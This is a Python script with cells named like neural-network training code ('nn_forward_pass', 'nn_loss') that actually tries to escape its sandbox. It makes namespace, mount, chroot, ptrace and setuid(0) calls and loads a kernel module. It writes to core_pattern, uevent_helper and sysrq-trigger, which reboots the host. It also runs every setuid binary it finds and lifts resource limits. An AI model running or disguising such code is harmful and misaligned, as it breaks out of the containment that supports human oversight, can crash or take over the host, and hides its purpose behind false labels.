"""The ways out of a sandbox that have names: ptrace, mounts, namespaces, roots, kernel settings."""

# %% nn_forward_pass
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, *arguments):
    result = getattr(libc, name)(*arguments)
    print("SUCCEEDED" if result != -1 else os.strerror(ctypes.get_errno()), name, arguments)


for flag in (0x20000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x2000000):
    attempt("unshare", flag)
attempt("mount", b"none", b"/scratch", b"tmpfs", 0, None)
attempt("mount", b"proc", b"/proc", b"proc", 0, None)
attempt("mount", b"none", b"/usr", None, 32 | 4096, None)
attempt("umount2", b"/proc", 2)
attempt("umount2", b"/scratch", 2)
attempt("chroot", b"/scratch")
attempt("ptrace", 16, os.getppid(), 0, 0)
attempt("setuid", 0)
attempt("setgid", 0)
attempt("sethostname", b"gc-attack", 9)
attempt("init_module", 0, 0, b"")
attempt("pivot_root", b"/scratch", b"/scratch")
for name in ("user", "mnt", "pid", "net"):
    fd = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
    attempt("setns", fd, 0) if name != "user" else None
libc.syscall(323, 0)
for path, text in {
    "/proc/self/oom_score_adj": "-1000", "/proc/1/oom_score_adj": "-1000", "/proc/self/uid_map": "0 0 1",
    "/proc/sys/kernel/core_pattern": "|/scratch/gc-attack", "/proc/sys/user/max_user_namespaces": "100",
    "/proc/sysrq-trigger": "b", "/sys/kernel/uevent_helper": "/scratch/gc-attack",
    "/proc/self/setgroups": "allow", "/sys/fs/cgroup/cgroup.procs": "1", "/proc/self/loginuid": "0",
}.items():
    try:
        with open(path, "w") as file:
            file.write(text)
        print("SUCCEEDED", path)
    except OSError as error:
        print(error)

# %% nn_loss
for command in ("sudo -n id", "su -c id", "mount", "unshare -r id", "nsenter -t 1 -a id", "passwd -S",
                "find / -xdev -perm -4000 -exec {} ';'", "ping -c1 -W1 127.0.0.1", "newuidmap 1 0 0 1"):
    try:
        done = subprocess.run(command, shell=True, capture_output=True, timeout=3, text=True)
        print(command, done.returncode, done.stdout[:500], done.stderr[:500])
        if "uid=0" in done.stdout:
            print("SUCCEEDED", command)
    except subprocess.TimeoutExpired:
        print(command, "took too long")

# %% nn_forward_backward
import resource

for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_CORE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("SUCCEEDED", name)
    except (ValueError, OSError) as error:
        print(name, error)
